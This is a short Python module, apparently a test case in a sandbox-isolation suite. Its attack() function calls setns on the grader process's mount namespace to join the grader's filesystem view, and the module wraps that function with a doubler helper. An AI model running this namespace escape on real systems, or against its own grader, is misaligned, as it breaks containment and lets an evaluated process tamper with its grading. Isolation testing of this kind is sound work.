"""Joins the grader's namespaces."""

import os

from lib.attack import doubler, syscall
from lib.target import GRADER_PID


def attack():
    return syscall("setns", os.open(f"/proc/{GRADER_PID}/ns/mnt", os.O_RDONLY), 0)


Doubler = doubler(attack)
